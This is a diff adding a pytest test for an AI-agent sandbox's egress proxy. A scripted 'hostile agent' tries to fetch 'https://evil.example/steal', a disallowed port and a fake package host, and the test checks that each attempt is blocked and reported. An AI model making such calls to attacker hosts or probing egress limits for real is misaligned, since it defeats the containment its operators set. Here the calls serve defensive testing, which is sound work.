@@ -319,3 +319,51 @@ def test_a_hostile_agent_cannot_get_the_key_or_another_destination(
     assert OPENAI_KEY not in comment and PLACEHOLDER_PREFIX not in comment
     text = transcript(world, number)
     assert OPENAI_KEY not in text and PLACEHOLDER_PREFIX not in text
+
+
+EGRESS_AGENT = '''
+    import socket, subprocess
+    lines = []
+    for label, url in [("blocked-host", "https://evil.example/steal"), ("blocked-http", "http://evil.example/x"),
+                       ("allowed-host", "https://127.0.0.2/simple/"), ("allowed-bad-port", "https://127.0.0.2:8443/")]:
+        try:
+            urllib.request.urlopen(url, timeout=10)
+            lines.append(f"{label}=FETCHED")
+        except Exception as exc:
+            lines.append(f"{label}={type(exc).__name__}: {exc}")
+    # A child process tries too: the report names the command that did.
+    child = "import urllib.request; urllib.request.urlopen('https://pypi.example/simple', timeout=10)"
+    done = subprocess.run([sys.executable, "-c", child], capture_output=True, text=True)
+    lines.append(f"child={done.returncode}")
+    # The model calls still go straight to the gateway (NO_PROXY), not through the proxy.
+    status, _ = openai({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]})
+    lines.append(f"model={status}")
+    lines.append("proxy=" + os.environ.get("HTTPS_PROXY", "") + " no_proxy=" + os.environ.get("NO_PROXY", ""))
+    open("egress-report.txt", "w").write("\\n".join(lines) + "\\n")
+'''
+
+
+def test_egress_goes_only_to_allowed_hosts_and_blocked_attempts_are_reported(
+    world: World, models: tuple[AnthropicEmulator, OpenAIEmulator]
+) -> None:
+    _, gpt = models
+    gpt.script([Reply.text("hello")])
+    agent = agent_script(world.root, EGRESS_AGENT)
+    number = world.file_issue(dispatch_body(instruction="Fetch things."))
+
+    outcomes = world.run_once(**settings(world, agent, models, sandbox_egress_allow="127.0.0.2,pypi.org"))
+
+    assert [o.status for o in outcomes] == ["succeeded"]
+    report = world.emu.file_at(TARGET, world.pulls()[0]["head"]["ref"], "egress-report.txt")
+    results = dict(line.split("=", 1) for line in report.splitlines() if "=" in line)
+    assert "403" in results["blocked-host"] and "403" in results["blocked-http"], report
+    assert "502" in results["allowed-host"], report  # allowed, and nothing listens on 127.0.0.2:443
+    assert "403" in results["allowed-bad-port"], report
+    assert results["child"] == "1" and results["model"] == "200"
+    assert re.match(r"http://127\.0\.0\.1:\d+ no_proxy=127\.0\.0\.1,localhost", results["proxy"])
+    comment = world.comments(number)[-1]["body"]
+    assert "The sandbox's egress proxy blocked 4 connection(s)" in comment, comment
+    assert re.search(r"`evil\.example:443` by `python3 \S+agent\.py .*` \(not in SANDBOX_EGRESS_ALLOW\)", comment)
+    assert "`evil.example:80` by `python3" in comment
+    assert "`127.0.0.2:8443` by `python3" in comment and "(port 8443 is not allowed)" in comment
+    assert "`pypi.example:443` by `" in comment and "urllib.request.urlopen('https://pypi.example" in comment
